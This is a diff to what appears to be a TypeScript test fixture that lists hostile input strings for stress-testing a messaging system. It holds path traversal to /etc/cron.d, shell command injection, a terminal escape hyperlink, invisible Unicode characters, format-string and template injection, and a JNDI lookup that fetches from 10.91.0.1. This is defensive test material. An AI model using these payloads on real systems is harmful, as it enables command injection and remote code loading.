@@ -55,6 +55,10 @@ const hostile: Readonly<Record<string, string>> = {
   dots: '..%2e%2e/..\\..',
   path: '../../../../etc/cron.d/x',
   shell: '$(touch /tmp/owned);`id`|sh',
+  hyperlink: '\u001b]8;;http://10.91.0.1:4799/\u001b\\here\u001b]8;;\u001b\\',
+  fillers: '\u115f\u3164\u2800\uffa0',
+  annotation: '\ufff9Router\ufffanot\ufffb\u206a\u{e0101}',
+  templates: '%s%n%99999999d {{7*7}} \u0024{jndi:ldap://10.91.0.1:4799/a}',
 }
 
 /** Messages poured at twenty a second, by the attack's name. */
